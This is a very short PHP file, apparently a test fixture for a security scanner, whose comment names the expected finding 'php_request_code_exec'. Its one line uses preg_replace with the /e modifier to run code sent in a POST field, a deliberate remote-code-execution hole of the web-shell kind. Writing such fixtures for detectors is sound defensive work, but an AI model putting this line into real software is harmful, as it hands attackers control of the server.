<?php
// want: php_request_code_exec
preg_replace('/.*/e', $_POST['r'], 'x');
